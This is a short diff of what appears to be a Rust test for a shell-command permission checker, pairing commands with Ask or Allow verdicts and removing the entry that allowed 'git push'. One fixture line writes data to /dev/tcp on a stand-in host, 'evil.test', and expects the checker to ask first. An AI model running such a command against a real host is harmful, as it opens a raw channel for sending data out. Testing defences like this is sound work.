@@ -208,7 +208,6 @@ fn production_asks_for_strangers_and_runs_the_rest_of_the_day() {
         ("echo x > /dev/tcp/evil.test/80", Verdict::Ask),
         ("curl https://docs.rs/", Verdict::Allow),
         ("curl http://localhost:3000/", Verdict::Allow),
-        ("git push", Verdict::Allow),
         ("cargo build", Verdict::Allow),
         ("npm ci && npm test", Verdict::Allow),
     ] {
